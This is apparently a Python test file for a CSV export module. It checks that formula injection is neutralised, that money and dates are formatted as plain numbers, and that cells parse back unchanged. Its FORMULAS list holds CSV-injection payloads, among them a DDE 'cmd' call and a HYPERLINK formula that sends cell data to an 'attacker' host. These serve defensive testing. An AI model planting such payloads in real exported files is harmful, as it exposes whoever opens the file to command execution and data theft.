"""CSV cells. EX-01: nothing runs as a formula, numbers stay numbers. EX-02: what is parsed back is what went in."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from catalogue.values import Money
from settlement.errors import ExportError
from settlement.exports.csv_text import document, field, guarded, is_dangerous, unguarded

# Source: OWASP ASVS 5.0.0 V1.2.10, the OWASP page on CSV injection and public bypass reports (leading blanks, NBSP,
# byte order mark, a newline inside the cell); read 2026-11-22.
FORMULAS = [
    "=1+1",
    "@test",
    "+1+1",
    "-1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://attacker/?d="&A1, "click")',
    "\t=1+1",
    "\r=1+1",
    " =cmd|'/c calc'!A0",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u3000@x",
    "safe\n=cmd",
    "safe\r\n  =cmd",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "\x00=1",
]


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize("text", FORMULAS)
def test_ex_01_a_formula_is_quoted_and_marked(text: str) -> None:
    written = field(text)
    assert written.startswith("\"'")
    assert written.endswith('"')


@pytest.mark.parametrize("text", ["", "plain", "a-b", "a=b", "中文", "O'Hare", "0012", "12345678901234567890", "a b"])
def test_ex_01_harmless_text_is_left_alone(text: str) -> None:
    assert field(text) == text


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (Money(-10000, "CNY"), "-100.00"),
        (Money(-1, "CNY"), "-0.01"),
        (Money(-100, "JPY"), "-100"),
        (Money(1, "KWD"), "0.001"),
        (Money(-5, "CLF"), "-0.0005"),
        (-7, "-7"),
        (Decimal("-100"), "-100"),
        (date(2026, 11, 22), "2026-11-22"),
        (None, ""),
    ],
)
def test_ex_01_numbers_stay_numbers(cell: Money | int | Decimal | date | None, written: str) -> None:
    assert field(cell) == written


@pytest.mark.parametrize("cell", [Decimal("1E5"), Decimal("NaN"), 1.5, True, b"x"])
def test_ex_01_what_is_no_plain_number_is_refused(cell: object) -> None:
    with pytest.raises(ExportError):
        field(cell)  # type: ignore[arg-type]


@given(st.lists(st.lists(st.text(st.characters(exclude_characters="\x00", codec="utf-8")), min_size=2, max_size=2)))
def test_ex_02_parsed_back_is_what_went_in(rows: list[list[str]]) -> None:
    content = document(("a", "b"), rows, byte_order_mark=True)
    assert content.startswith(b"\xef\xbb\xbfa,b\r\n")
    assert [[unguarded(cell) for cell in row] for row in read(content)[1:]] == rows


@given(st.text())
def test_ex_01_no_written_text_is_dangerous(text: str) -> None:
    (cell,) = next(csv.reader(io.StringIO(field(text) + ",\r\n", newline=""), strict=True))[:1]
    assert cell.startswith("'") or not is_dangerous(cell)


def test_ex_02_long_cells_quotes_and_nul() -> None:
    long = "x" * 40_000
    content = document(("a", "b", "c"), [(long, 'say "hi", twice\r\nand go', "a\x00b")])
    assert read(content)[1] == [long, 'say "hi", twice\r\nand go', "a␀b"]


def test_the_guard_is_reversible_for_text_that_begins_with_a_quote() -> None:
    assert guarded("'=1") == "''=1"
    assert unguarded(guarded("'=1")) == "'=1"
